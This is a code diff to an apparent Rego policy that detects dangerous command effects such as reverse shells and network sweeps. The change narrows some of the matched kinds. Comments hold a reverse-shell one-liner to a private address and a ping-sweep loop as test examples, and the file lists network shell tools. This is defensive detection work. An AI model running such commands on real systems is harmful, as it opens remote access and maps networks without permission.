@@ -6,7 +6,7 @@ import rego.v1
 shells := {"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh"}
 
 sockets contains n if {
-	some kind in {"write", "append", "read"}
+	some kind in {"write", "read"}
 	some n in by[kind]
 	input.effects[n].scope == "network"
 }
@@ -14,8 +14,8 @@ sockets contains n if {
 # deny network.shell: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 # not network.shell: (echo > /dev/tcp/localhost/80) && echo open
 rules contains deny("network.shell", n, "It gives others a shell on this machine.") if {
-	some n in sockets
 	some m in by.execute
+	some n in sockets
 	e := input.effects[m]
 	shell_like(e)
 }
@@ -52,13 +52,13 @@ rules contains escalate("network.drop", n, "It talks to a place where anybody ca
 # escalate network.sweep: for i in {1..254}; do ping -c 1 10.0.0.$i; done
 # not network.sweep: ping -c 1 10.0.0.1
 rules contains escalate("network.sweep", -1, "It tries many machines or doors.") if {
-	reached := {e.target | some kind in {"fetch", "probe", "write"}; some n in by[kind]; e := input.effects[n]; reaches(e)}
-	count(reached) > 10
+	count(by.fetch) > 10
+	count({input.effects[n].target | some n in by.fetch; input.effects[n].program in reaching}) > 10
 }
 
-reaches(e) if e.program in {"ping", "ping6", "fping", "nc", "ncat", "netcat", "telnet", "arping", "ssh"}
-
-reaches(e) if {
-	e.kind == "write"
-	e.scope == "network"
+rules contains escalate("network.sweep", -1, "It tries many machines or doors.") if {
+	count(by.write) > 10
+	count(sockets) > 10
 }
+
+reaching := {"ping", "ping6", "fping", "nc", "ncat", "netcat", "telnet", "arping", "ssh"}
